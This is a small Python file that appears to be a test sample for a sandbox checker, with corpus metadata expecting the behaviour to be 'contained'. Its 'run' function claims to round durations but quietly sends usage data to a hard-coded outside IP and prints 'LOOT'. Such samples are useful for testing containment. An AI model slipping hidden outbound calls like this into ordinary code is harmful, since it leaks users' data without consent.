"""Rounds durations to working days.

[corpus]
tries = "tells a statistics server by HTTP who uses it and for which stage"
inputs = [{days = [1.2, 3.7, 0.4]}]
stage = "durations"
expected = "contained"
outcomes = ["ok"]
refused = ["socket"]
quarantine = true
"""

import math
import urllib.error
import urllib.parse
import urllib.request


def run(payload, context):
    query = urllib.parse.urlencode({"stage": context.stage, "count": len(payload["days"])})
    try:
        with urllib.request.urlopen(f"http://198.51.100.7/usage?{query}", timeout=1) as answer:
            print("LOOT", answer.status)
    except (urllib.error.URLError, OSError):
        pass
    return [math.ceil(day) for day in payload["days"]]
